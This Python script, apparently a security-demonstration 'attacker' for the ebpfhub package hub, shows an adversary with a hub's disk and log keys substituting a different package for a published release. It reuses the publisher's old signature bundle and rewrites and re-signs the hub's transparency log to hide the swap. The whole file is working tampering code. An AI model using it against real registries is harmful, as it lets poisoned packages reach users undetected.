"""The attacker of step 5: owns a hub's disk and the keys of its log, but no key that a publisher signs with.

Puts another package in the place of a release and rewrites whatever names it, so that the hub agrees with itself again.

usage: attacker.py HUB FILE.bpf
"""

from __future__ import annotations

import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

from ebpfhub.federation.blobs import BlobStore
from ebpfhub.federation.log.files import LogFiles
from ebpfhub.federation.log.sequencer import Sequencer
from ebpfhub.federation.package_file import PackageFile
from ebpfhub.node.folder import HubFolder, read_key
from ebpfhub.node.ledger import Ledger
from ebpfhub.node.settings import load_settings
from ebpfhub.node.storage.database import Database
from ebpfhub.node.storage.heads import SqliteHeads
from ebpfhub.node.storage.links import BlobLinks
from ebpfhub.node.storage.manifests import ManifestRow, Manifests
from ebpfhub.schemas import media
from ebpfhub.schemas.digest import Digest
from ebpfhub.schemas.entry import Entry, IndexRoot, Release
from ebpfhub.schemas.oci import MAX_BLOB_BYTES, Descriptor, Manifest
from ebpfhub.schemas.permissions import permissions_digest, permissions_of_package
from ebpfhub.signing.sign import bundle_manifest


@dataclass(frozen=True, slots=True)
class Disk:
    """What the attacker has: the hub's folder, opened."""

    folder: HubFolder
    origin: str
    database: Database
    store: BlobStore

    @classmethod
    def take(cls, root: Path) -> Disk:
        """Open a hub's folder while nobody serves it."""
        folder = HubFolder(root.absolute())
        origin = load_settings(folder.settings).origin
        return cls(folder, origin, Database(folder.database), BlobStore(folder.blobs))

    def ledger(self) -> Ledger:
        """The hub's log, open for writing with the hub's own keys."""
        files, heads = LogFiles(self.folder.log), SqliteHeads(self.database, "origin")
        key, cosigner = read_key(self.folder.log_key), read_key(self.folder.cosigner_key)
        return Ledger.open(Sequencer(files, heads, origin=self.origin, key=key, cosigner=cosigner), self.origin)

    def put(self, repository: str, manifest: Manifest, blobs: dict[Digest, bytes]) -> None:
        """Store a manifest with its blobs, and show them to everybody."""
        for digest, data in blobs.items():
            self.store.put(data)
            BlobLinks(self.database, self.store).add(repository, digest)
        self.store.put(manifest.raw)
        subject = str(manifest.subject.digest) if manifest.subject else ""
        row = ManifestRow(manifest.digest, media.OCI_MANIFEST, len(manifest.raw), subject, manifest.artifact_type)
        Manifests(self.database).add(repository, row, parts=[item.digest for item in manifest.blobs])


def forge(disk: Disk, release: Release, file: PackageFile) -> Release:
    """Store another package under the publisher's old signature; returns the entry that names it."""
    package = file.contents.manifest
    disk.put(release.package, package, dict(file.contents.blobs))
    signed = Manifest.parse(disk.store.read(release.referrers[0], limit=MAX_BLOB_BYTES))
    bundle = disk.store.read(signed.layers[0].digest, limit=MAX_BLOB_BYTES)
    referrer = bundle_manifest(bundle, Descriptor.of(media.OCI_MANIFEST, package.raw))
    disk.put(release.package, referrer, {})
    return replace(
        release,
        manifest=package.digest,
        size=len(package.raw),
        referrers=(referrer.digest,),
        permissions=permissions_digest(permissions_of_package(file.contents.wasm(), *file.contents.objects())),
    )


def rewrite_log(disk: Disk, entries: list[Entry]) -> Ledger:
    """Write the log anew: tiles, maps, head and checkpoint, as the hub itself would write them."""
    shutil.rmtree(disk.folder.log)
    disk.folder.log.mkdir()
    disk.database.write("DELETE FROM heads WHERE log = ?", "origin")
    ledger = disk.ledger()
    for entry in entries:
        ledger.write_now([_dated(entry)])
    return ledger


def _dated(entry: Entry) -> Callable[[int], Entry]:
    return lambda now: replace(entry, time=now)


def main() -> None:
    """Replace the release that has the name and version of FILE.bpf."""
    disk, file = Disk.take(Path(sys.argv[1])), PackageFile.read(Path(sys.argv[2]).read_bytes())
    config, old = file.contents.config, disk.ledger()
    entries: list[Entry] = []
    for _, entry in old.entries():
        if isinstance(entry, Release) and (entry.package, entry.version) == (config.package, config.version):
            entries.append(made := forge(disk, entry, file))
            print(f"{entry.package}:{entry.version} was {entry.manifest}\n{'and is now':>{26}} {made.manifest}")
        elif not isinstance(entry, IndexRoot):  # those the ledger writes by itself
            entries.append(entry)
    new = rewrite_log(disk, entries)
    disk.database.close()
    print(f"the log had {old.size} entries and has {new.size}; its checkpoint is signed with the hub's keys")


if __name__ == "__main__":
    main()
